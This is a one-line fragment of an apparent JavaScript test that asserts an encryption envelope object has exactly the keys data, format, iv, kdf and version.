     expect(Object.keys(envelope).sort()).toEqual(['data', 'format', 'iv', 'kdf', 'version']);
